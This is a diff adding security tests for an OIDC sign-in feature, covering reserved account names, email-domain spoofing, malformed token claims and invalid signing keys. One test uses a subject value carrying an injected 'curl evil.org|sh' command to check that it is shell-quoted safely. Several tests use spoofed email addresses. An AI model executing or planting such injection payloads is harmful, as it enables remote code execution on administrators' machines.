@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import json
+import shlex
 import time
 from collections import Counter
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import ExitStack
+from html import unescape
 from pathlib import Path
 from typing import Any
 from urllib.parse import parse_qs, urlencode, urlsplit
@@ -19,13 +22,14 @@ from fakes.served import Got, Served, ask, serving
 from fakes.signed import sign_in
 from sqlalchemy import update
 
-from zoo.errors import Conflict, InvalidOption, Unavailable, UnknownName
+from zoo.errors import Conflict, InvalidOption, InvalidReference, Unavailable, UnknownName
 from zoo.registry.engine import writing
 from zoo.serve.sso import claims as claims_module
 from zoo.serve.sso import issuer as issuer_module
 from zoo.serve.sso import tries as tries_module
 from zoo.serve.sso import turns as turns_module
-from zoo.serve.who import schema
+from zoo.serve.table import ROUTES
+from zoo.serve.who import reserved, schema
 from zoo.serve.who.open import FILE
 from zoo.serve.who.providers import Provider
 from zoo.workspace import Workspace
@@ -152,7 +156,8 @@ def test_nobody_is_signed_in_by_a_name_or_an_address(zoo: Served, provider: Oidc
 @pytest.mark.parametrize(
     ("said", "name"),
     [("admin", "admin-2"), ("timm", "timm-2"), ("../../x", "x"), ("", "user"), ("ÄÖ", "user"),
-     ("a" * 99, "a" * 32), ("Team", "team-2"), ("gone", "gone-2"), ({}, "user")],
+     ("a" * 99, "a" * 32), ("Team", "team-2"),
+     ("Sign-In", "sign-in-2"), ("runs", "runs-2"), ("gone", "gone-2"), ({}, "user")],
 )  # fmt: skip
 def test_a_new_account_takes_nobodys_namespace(
     zoo: Served, provider: OidcProvider, said: object, name: str
@@ -168,6 +173,32 @@ def test_a_new_account_takes_nobodys_namespace(
     assert browser.who == name
 
 
+def test_of_whose_name_nothing_is_left_another_claim_says_it(
+    zoo: Served, provider: OidcProvider
+) -> None:
+    """And there are more than a hundred of one name."""
+    add(zoo, provider, creates=True)
+    for name in ("user", *(f"user-{number}" for number in range(2, 100))):
+        zoo.accounts.add(name)
+    for subject, email, name in (
+        ("1", "wang@lab.org", "wang"),
+        ("2", "\u674e@lab.org", "user-100"),
+    ):
+        provider.user = {"sub": subject, "preferred_username": "\u738b\u4f1f", "email": email}
+        browser = Browser(zoo)
+        assert browser.signs_in(provider).status == 303
+        assert browser.who == name
+
+
+def test_no_account_is_called_as_an_address_of_the_server() -> None:
+    """Nor a team: its repositories could not be asked for."""
+    first = {route.path.split("/")[1] for route in ROUTES}
+    assert {part for part in first if part and "{" not in part} <= reserved.ADDRESSES
+    for name in ("sign-in", "Runs", "zoo"):
+        with pytest.raises(InvalidReference, match="addresses of the server"):
+            reserved.check_free(name)
+
+
 def test_an_account_is_made_only_if_the_admin_said_so(zoo: Served, provider: OidcProvider) -> None:
     add(zoo, provider)
     browser = Browser(zoo)
@@ -175,6 +206,11 @@ def test_an_account_is_made_only_if_the_admin_said_so(zoo: Served, provider: Oid
     assert (got.status, got.code) == (403, "")
     assert b"zoo serve sso link lab 7 ACCOUNT" in got.body
     assert (accounts(zoo), browser.who) == ([], "")
+    provider.user = {"sub": "x; curl evil.org|sh # '"}
+    page = Browser(zoo).signs_in(provider).body.decode()
+    command = unescape(page).partition("zoo serve sso link")[2].partition(" ACCOUNT")[0]
+    assert shlex.split(command) == ["lab", "x; curl evil.org|sh # '"], "whoever runs it pastes it"
+    provider.user = {"sub": "7"}
     zoo.accounts.add("ann")
     zoo.accounts.providers.link(provider.url, "7", "ann")
     browser.signs_in(provider)
@@ -193,6 +229,20 @@ def test_an_account_is_made_only_if_the_admin_said_so(zoo: Served, provider: Oid
         ({"email": "ann@lab.org.evil.example", "email_verified": True}, False),
         ({"email": "ann@evil.example", "email_verified": True}, False),
         ({"email": ["x@lab.org"], "email_verified": True}, False),
+        *(
+            ({"email": email, "email_verified": True}, False)
+            for email in (
+                "a@evil.org,b@lab.org",
+                "a@evil.org@lab.org",
+                "a@evil\n@lab.org",
+                "lab.org",
+                "@lab.org",
+                "<a@evil.org>b@lab.org",
+                '"a@evil.org"@lab.org',
+                "a\0@lab.org",
+                "ann@lab.org\n",
+            )
+        ),
         ({}, False),
     ],
 )
@@ -453,7 +503,9 @@ WRONG: dict[str, dict[str, Any]] = {
     "aud": {"aud": "another"}, "no aud": {"aud": None}, "two": {"aud": [CLIENT, "another"]},
     "azp": {"azp": "another"}, "nonce": {"nonce": "x" * 64}, "no nonce": {"nonce": None},
     "odd nonce": {"nonce": 7}, "expired": {"exp": 1}, "no exp": {"exp": None},
-    "odd exp": {"exp": True}, "long": {"exp": 1 << 40}, "nan": {"exp": float("nan")},
+    "odd exp": {"exp": True}, 
+    "far": {"exp": 10**400},
+    "far nbf": {"nbf": 10**400}, "far iat": {"iat": -(10**400)}, "long": {"exp": 1 << 40}, "nan": {"exp": float("nan")},
     "later": {"nbf": 1 << 40}, "tomorrow": {"iat": 1 << 40}, "nobody": {"sub": ""},
     "odd sub": {"sub": 7}, "long sub": {"sub": "x" * 256},
 }  # fmt: skip
@@ -745,6 +797,7 @@ def test_what_cannot_be_a_provider(zoo: Served, provider: OidcProvider) -> None:
     base = {"name": "lab", "issuer": "https://id.lab.org", "client_id": "zoo"}
     for wrong in (
         {"issuer": "http://id.lab.org"}, {"issuer": "https://id.lab.org?x=1"}, {"issuer": "x"},
+        {"issuer": "https://id.lab.org."},
         {"issuer": "https://me:pw@id.lab.org"}, {"issuer": "https://id.lab.org/ x"},
         {"name": "Lab/x"}, {"client_id": ""}, {"hosts": ("https://x.org",)},
         {"domains": ("lab.org",)}, {"domains": ("@lab.org",), "creates": True},
@@ -791,6 +844,20 @@ def test_tokens_of_sessions_that_are_over_are_forgotten(
     (old,) = zoo.accounts.tokens("ann-b")
     Browser(zoo).signs_in(provider)
     assert old.id not in [each.id for each in zoo.accounts.tokens("ann-b")]
+
+
+def test_a_key_that_is_none(zoo: Served, provider: OidcProvider) -> None:
+    """Of a curve that nobody knows, without its parts, or of others."""
+    add(zoo, provider, creates=True)
+    provider.mint = lambda claims: signed(claims, kid="curve", alg="ES256")
+    curve = KEYS["curve"].as_dict(private=False)
+    for wrong in ({"crv": "P-999"}, {"crv": None}, {"x": "AA"}, {"x": "!"}, {"y": 7}, {"crv": ""}):
+        zoo.server.hub.issuers._known.clear()
+        provider.answers["/keys"] = json.dumps({"keys": [{**curve, **wrong}]}).encode()
+        assert Browser(zoo).signs_in(provider).status == 403, wrong
+    zoo.server.hub.issuers._known.clear()
+    provider.answers["/keys"] = json.dumps({"keys": [curve]}).encode()
+    assert Browser(zoo).signs_in(provider).status == 303
 
 
 def test_a_modulus_has_a_safe_size() -> None:
